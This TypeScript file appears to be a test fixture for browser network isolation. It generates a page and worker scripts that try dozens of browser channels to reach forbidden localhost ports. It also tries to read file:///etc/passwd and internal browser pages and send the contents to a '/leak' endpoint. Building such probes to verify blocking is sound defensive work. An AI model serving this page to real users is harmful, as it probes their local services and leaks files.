/** A page that tries every door a browser has towards addresses that are not to be reached. */

export interface Doors {
  /** `127.0.0.1:<port>` and the like: listeners that must see nothing. */
  readonly tcp: readonly string[];
  /** As `tcp`, of listeners for UDP. */
  readonly udp: readonly string[];
}

/** @returns HTML. `own`: the page's own origin, where workers and styles come from. */
export function hostilePage({ tcp, udp }: Doors): string {
  return `<!doctype html><meta charset="utf-8"><title>doors</title>
${tcp.map(staticDoors).join('\n')}
<div id="div-gpt-ad-1" style="width:300px;height:250px;background:#0a0">a picture</div>
<script>
const TCP = ${JSON.stringify(tcp)}, UDP = ${JSON.stringify(udp)};
const open_ = (work) => { try { const p = work(); if (p && p.catch) p.catch(() => 0); } catch {} };
${scriptedDoors}
for (const at of TCP) tryAll(at, self);
for (const at of [...UDP, ...TCP]) tryPeers(at);
for (const at of UDP) open_(() => new WebTransport('https://' + at + '/transport').ready);
for (const at of TCP) {
  open_(() => new Worker('/worker.js#' + at));
  open_(() => new SharedWorker('/worker.js#' + at, at));
  open_(() => navigator.serviceWorker.register('/service.js?' + at).then(() => fetch('/through-service-worker')));
  open_(() => window.open('http://' + at + '/popup'));
  open_(() => { const form = Object.assign(document.createElement('form'), { action: 'http://' + at + '/form', method: 'post', target: 'form-frame' }); document.body.append(form); form.submit(); });
  open_(() => { const frame = document.createElement('iframe'); document.body.append(frame); frame.contentWindow.location = 'http://' + at + '/scripted-frame'; });
  open_(() => new Image().src = 'http://' + at + '/image');
  open_(() => { new Audio('http://' + at + '/audio').load(); });
  open_(() => new FontFace('x', 'url(http://' + at + '/font)').load());
}
for (const address of ['file:///etc/passwd', 'view-source:file:///etc/passwd', 'chrome://version', 'devtools://devtools/bundled/inspector.html', 'ftp://' + TCP[0] + '/']) {
  open_(() => fetch(address).then((r) => r.text()).then((text) => fetch('/leak?' + encodeURIComponent(text.slice(0, 50)))));
  open_(() => { const frame = Object.assign(document.createElement('iframe'), { src: address }); frame.onload = () => { try { fetch('/leak?' + encodeURIComponent(frame.contentDocument.body.innerText.slice(0, 50))) } catch {} }; document.body.append(frame); });
}
setTimeout(() => fetch('/done'), 50);
</script>`;
}

const staticDoors = (at: string) => `<link rel="preconnect" href="http://${at}">
<link rel="dns-prefetch" href="//${at}">
<link rel="prefetch" href="http://${at}/prefetch">
<link rel="preload" as="image" href="http://${at}/preload">
<link rel="modulepreload" href="http://${at}/module">
<link rel="stylesheet" href="http://${at}/style">
<link rel="icon" href="http://${at}/icon">
<link rel="manifest" href="http://${at}/manifest">
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://${at}/speculated"]}],"prerender":[{"source":"list","urls":["http://${at}/prerendered"]}]}</script>
<iframe src="http://${at}/frame"></iframe><iframe name="form-frame"></iframe>
<object data="http://${at}/object"></object><embed src="http://${at}/embed">
<video src="http://${at}/video" preload="auto"></video>
<a href="/" ping="http://${at}/ping">x</a>`;

const scriptedDoors = `
function tryAll(at, scope) {
  for (const scheme of ['http', 'https']) {
    open_(() => fetch(scheme + '://' + at + '/fetch', { mode: 'no-cors' }));
    open_(() => fetch(scheme + '://' + at + '/alive', { mode: 'no-cors', method: 'post', keepalive: true, body: 'x' }));
  }
  for (const scheme of ['ws', 'wss']) open_(() => new WebSocket(scheme + '://' + at + '/socket'));
  open_(() => new EventSource('http://' + at + '/events'));
  open_(() => { const request = new XMLHttpRequest(); request.open('GET', 'http://' + at + '/xhr'); request.send(); });
  open_(() => scope.navigator.sendBeacon && scope.navigator.sendBeacon('http://' + at + '/beacon', 'x'));
  open_(() => new WebTransport('https://' + at + '/transport').ready);
  open_(() => new WebSocketStream('ws://' + at + '/stream').opened);
  open_(() => importScripts('http://' + at + '/imported'));
}
function tryPeers(at) {
  for (const url of ['stun:' + at, 'turn:' + at + '?transport=udp', 'turn:' + at + '?transport=tcp', 'turns:' + at + '?transport=tcp']) {
    open_(() => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: url, username: 'u', credential: 'c' }] });
      peer.createDataChannel('x');
      return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    });
  }
  // A candidate of the other side's: the browser would knock there itself.
  open_(async () => {
    const [one, two] = [new RTCPeerConnection(), new RTCPeerConnection()];
    one.createDataChannel('x');
    await one.setLocalDescription(await one.createOffer());
    await two.setRemoteDescription(one.localDescription);
    await two.setLocalDescription(await two.createAnswer());
    await one.setRemoteDescription(two.localDescription);
    const [host, port] = at.split(':');
    for (const kind of ['udp 2113937151', 'tcp 1518280447']) {
      const type = kind.startsWith('tcp') ? 'host tcptype passive' : 'host';
      await one.addIceCandidate({ candidate: 'candidate:1 1 ' + kind + ' ' + host + ' ' + port + ' typ ' + type, sdpMid: '0', sdpMLineIndex: 0 });
    }
  });
}`;

/** `/worker.js`: as much of it as a worker may, at the address in its fragment. */
export const HOSTILE_WORKER = `
const open_ = (work) => { try { const p = work(); if (p && p.catch) p.catch(() => 0); } catch {} };
${scriptedDoors}
tryAll(self.location.hash.slice(1), self);`;

/** `/service.js`: a service worker that asks the address in its query, when installed and for each fetch. */
export const HOSTILE_SERVICE_WORKER = `
const open_ = (work) => { try { const p = work(); if (p && p.catch) p.catch(() => 0); } catch {} };
${scriptedDoors}
const at = self.location.search.slice(1);
tryAll(at, self);
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => { tryAll(at, self); event.respondWith(fetch('http://' + at + '/from-service-worker', { mode: 'no-cors' })); });`;
